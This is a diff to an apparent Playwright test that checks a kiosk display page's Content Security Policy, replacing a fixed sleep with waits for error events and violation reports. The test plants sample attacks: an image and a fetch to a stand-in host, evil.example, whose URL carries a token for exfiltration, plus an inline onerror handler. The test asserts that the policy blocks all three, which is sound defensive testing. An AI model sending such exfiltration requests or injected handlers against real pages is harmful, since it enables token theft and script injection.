@@ -139,6 +139,10 @@ describe('kiosk CSP and request filter on the real display page', () => {
       img.src = 'https://evil.example/pixel.png';
       document.body.append(img);
       document.body.insertAdjacentHTML('beforeend', '<img src="/missing.png" onerror="window.__pwned = 1">');
+      // Our own listener, added after the inline handler, runs after it in the same dispatch:
+      // once it has run, the inline handler has run too, or was refused.
+      const missing = document.body.lastElementChild as HTMLImageElement;
+      const errored = new Promise((r) => missing.addEventListener('error', r, { once: true }));
       let fetched = 'no';
       try {
         await fetch('https://evil.example/exfiltrate?token=x');
@@ -146,10 +150,19 @@ describe('kiosk CSP and request filter on the real display page', () => {
       } catch {
         fetched = 'refused';
       }
-      await new Promise((r) => setTimeout(r, 300));
+      await errored;
       return { fetched, pwned: w.__pwned ?? null };
     });
     expect(outcome).toEqual({ fetched: 'refused', pwned: null });
+    // Reports are queued events: wait for the three, do not sleep for them.
+    await page.waitForFunction(
+      () =>
+        ['img-src', 'connect-src', 'script-src-attr'].every((d) =>
+          (window as unknown as { __violations: string[] }).__violations.some((x) => x.startsWith(`${d} `)),
+        ),
+      null,
+      { timeout: 10_000 },
+    );
     const v = await violations();
     expect(v).toContain('img-src https://evil.example/pixel.png');
     expect(v.some((x) => x.startsWith('connect-src https://evil.example/exfiltrate'))).toBe(true);
